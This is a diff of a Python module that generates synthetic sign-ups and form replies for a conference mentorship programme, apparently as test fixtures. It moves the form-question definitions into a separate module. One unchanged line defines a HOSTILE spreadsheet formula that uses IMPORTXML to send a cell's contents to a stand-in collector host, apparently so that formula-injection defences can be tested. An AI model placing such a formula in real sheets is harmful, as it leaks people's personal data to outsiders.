@@ -11,9 +11,9 @@ from collections.abc import Mapping
 from dataclasses import dataclass, replace
 from datetime import UTC, datetime, timedelta
 from random import Random
-from typing import Any
 
 from mentorship_gsheets.rehearsal import cast_words as words
+from mentorship_gsheets.rehearsal.cast_form import ATTENDANCE, FIELDS, ROLES
 
 SIGN_UP_HEADER = ("Name", "Email", "Ticket", "Mentorship programme?")
 OPENED = datetime(2026, 6, 8, 9, 0, tzinfo=UTC)
@@ -24,7 +24,7 @@ HOSTILE = '=IMPORTXML("https://collector.example.net/?who="&B2, "//a")'
 
 @dataclass(frozen=True, slots=True)
 class Person:
-    """One person of the conference. ``answers`` maps the form's columns (see :data:`QUESTIONS`) to the
+    """One person of the conference. ``answers`` maps the form's columns (see :data:`cast_form.QUESTIONS`) to the
     texts given.
     """
 
@@ -55,46 +55,6 @@ class Cast:
     people: tuple[Person, ...]
     sign_ups: tuple[tuple[str, str, str, str], ...]
     replies: tuple[Reply, ...]
-
-
-@dataclass(frozen=True, slots=True)
-class Question:
-    """A question of the form: ``kind`` is text, paragraph, radio, checkbox or dropdown; ``id`` is Google's."""
-
-    key: str
-    id: str
-    title: str
-    kind: str
-    options: tuple[str, ...] = ()
-    other: bool = False
-    required: bool = False
-
-
-ROLES = ("As a mentor", "As a mentee", "As both: mentor and mentee")
-ATTENDANCE = ("In person", "Virtually")
-FIELDS = tuple(field for block in words.BLOCKS for field in block)
-
-QUESTIONS = (
-    Question("name", "1a7c03e1", "What is your full name?", "text", required=True),
-    Question("role", "2b4d11f2", "How would you like to take part?", "radio", ROLES, required=True),
-    Question("attendance", "3c2e27a3", "How will you attend the conference?", "radio", ATTENDANCE, required=True),
-    Question("fields", "4d9f35b4", "Which fields do you work in? Tick all that apply.", "checkbox", FIELDS, other=True),
-    Question(
-        "sector",
-        "5e8046c5",
-        "Which sector do you work in?",
-        "dropdown",
-        ("Academia", "Industry", "Government lab", "Non-profit", "Student", "Between jobs"),
-    ),
-    Question("topics", "6f7157d6", "What would you like to talk about?", "checkbox", words.TOPICS, other=True),
-    Question("affiliation", "70626ae7", "Where do you work or study?", "text"),
-    Question("time_zone", "815379f8", "Your time zone", "dropdown", words.ZONES),
-    Question("capacity", "92448b09", "Mentors: how many mentees could you take on?", "radio", ("1", "2", "3")),
-    Question(
-        "languages", "a3359c1a", "Which languages do you speak comfortably?", "checkbox", words.LANGUAGES, other=True
-    ),
-    Question("notes", "b426ad2b", "Anything we should know when we look for your match?", "paragraph"),
-)
 
 
 def cast(number: int = 150, seed: int = 2026) -> Cast:
@@ -241,22 +201,3 @@ def _reply(random: Random, email: str, answers: Mapping[str, tuple[str, ...]], d
     edited = moment + timedelta(hours=5) if random.random() < 0.04 else moment
     id = "ACYD" + random.randbytes(24).hex()
     return Reply(id, email.strip(), moment, edited, answers)
-
-
-def form_items() -> list[dict[str, Any]]:
-    """The items of the form, as the Forms API shows them."""
-    return [_item(place, question) for place, question in enumerate(QUESTIONS)]
-
-
-def _item(place: int, question: Question) -> dict[str, Any]:
-    asked: dict[str, Any] = {"questionId": question.id}
-    if question.required:
-        asked["required"] = True
-    if question.kind in {"text", "paragraph"}:
-        asked["textQuestion"] = {"paragraph": True} if question.kind == "paragraph" else {}
-    else:
-        kind = {"radio": "RADIO", "checkbox": "CHECKBOX", "dropdown": "DROP_DOWN"}[question.kind]
-        options: list[dict[str, Any]] = [{"value": option} for option in question.options]
-        options += [{"isOther": True}] if question.other else []
-        asked["choiceQuestion"] = {"type": kind, "options": options}
-    return {"itemId": f"{place + 1:08x}", "title": question.title, "questionItem": {"question": asked}}
